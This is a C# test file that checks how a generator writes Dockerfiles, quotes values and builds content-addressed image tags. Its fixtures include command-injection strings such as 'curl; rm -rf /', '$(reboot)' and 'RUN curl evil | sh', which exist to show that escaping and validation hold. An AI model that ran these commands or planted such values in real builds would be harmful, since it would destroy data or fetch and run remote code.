using System.Globalization;
using Snapshooter.Xunit;

namespace DslInfra.Generators.Tests;

/// <summary>Container images: the generated Dockerfile, its quoting, and the content-addressed tag.</summary>
public class ContainerImageTests
{
    private static string Stack(string environment = "[\"GREETING\"] = \"hello\"", string packages = "\"curl\"", string baseImage = "nginx@sha256:4c0fdaa8b6341bfdeca5f18f7837462c80cff90527ee35ef185571e1c327beac") => $$"""
        [Stack("s")]
        public static class S
        {
            public static readonly ContainerImage Api = new("api")
            {
                BaseImage = "{{baseImage}}",
                Repository = "registry.example.com/api",
                Packages = [{{packages}}],
                Files = [new() { Source = "app/index.html", Destination = "/usr/share/nginx/html/index.html" }],
                Environment = new() { {{environment}} },
                Ports = [80, 443],
                WorkDir = "/srv",
                User = "nginx",
                Entrypoint = ["/docker-entrypoint.sh"],
                Command = ["nginx", "-g", "daemon off;"],
            };
            public static readonly Output Image = new("image") { Value = Api.Uri };
        }
        """;

    private static Dictionary<string, string> Generate(string source, string page = "<p>hi</p>\n") =>
        Harness.Artifacts(Harness.Compile(Harness.Usings + source), ("app/index.html", page));

    private static string Tag(Dictionary<string, string> artifacts) =>
        System.Text.Json.JsonDocument.Parse(artifacts["s/main.tf.json"]).RootElement.GetProperty("output").GetProperty("image").GetProperty("value").GetString()!;

    [Fact]
    public void Dockerfile() => Snapshot.Match(Generate(Stack())["s/images/api/Dockerfile"]);

    [Fact]
    public void The_build_context_holds_the_copied_file() =>
        Assert.Equal("<p>hi</p>\n", Generate(Stack())["s/images/api/app/index.html"]);

    [Fact]
    public void The_tag_is_content_addressed_and_stable()
    {
        var tag = Tag(Generate(Stack()));
        Assert.Matches("^registry.example.com/api:api-[0-9a-f]{12}$", tag);
        Assert.Equal(tag, Tag(Generate(Stack())));
        Assert.NotEqual(tag, Tag(Generate(Stack(), "<p>changed</p>\n")));
        Assert.NotEqual(tag, Tag(Generate(Stack(packages: "\"curl\", \"jq\""))));
        Assert.NotEqual(tag, Tag(Generate(Stack(baseImage: "nginx@sha256:0000000000000000000000000000000000000000000000000000000000000000"))));
    }

    [Theory]
    [InlineData("say \"hi\"", "ENV V=\"say \\\"hi\\\"\"")]
    [InlineData("$(reboot) `id` $HOME", "ENV V=\"\\$(reboot) `id` \\$HOME\"")]
    [InlineData("back\\slash", "ENV V=\"back\\\\slash\"")]
    public void Environment_values_cannot_break_their_line(string value, string line)
    {
        var literal = Microsoft.CodeAnalysis.CSharp.SymbolDisplay.FormatLiteral(value, quote: true);
        var dockerfile = Generate(Stack($"[\"V\"] = {literal}"))["s/images/api/Dockerfile"];
        Assert.Contains(line + "\n", dockerfile);
    }

    [Fact]
    public void A_package_name_is_one_shell_argument()
    {
        var dockerfile = Generate(Stack(packages: "\"curl; rm -rf /\", \"jq && echo pwned\""))["s/images/api/Dockerfile"];
        Assert.Contains("install -y --no-install-recommends 'curl; rm -rf /' 'jq && echo pwned' && rm", dockerfile);
    }

    [Fact]
    public void A_line_break_in_an_environment_value_is_an_error()
    {
        var diagnostics = Harness.Diagnostics([Stack("[\"V\"] = \"a\\nRUN curl evil | sh\"")], [("app/index.html", "x")]);
        Assert.Contains(diagnostics, d => d.Id == "DI1007");
    }
}
